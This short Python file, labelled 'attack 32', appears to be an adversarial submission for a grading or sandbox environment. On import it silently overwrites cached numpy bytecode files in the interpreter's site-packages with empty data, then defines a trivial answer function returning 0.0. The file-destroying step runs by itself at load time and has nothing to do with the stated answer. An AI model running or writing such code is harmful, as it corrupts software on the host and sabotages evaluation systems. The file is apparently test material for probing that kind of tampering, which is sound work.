"""Overwrites the interpreter's byte code (attack 32)."""
import glob, sys
for file in glob.glob(sys.prefix + '/lib/python3*/site-packages/numpy/__pycache__/*.pyc')[:5]:
    try: open(file, 'wb').write(b'')
    except OSError: pass

def answer(*args, **kwargs):
    return 0.0
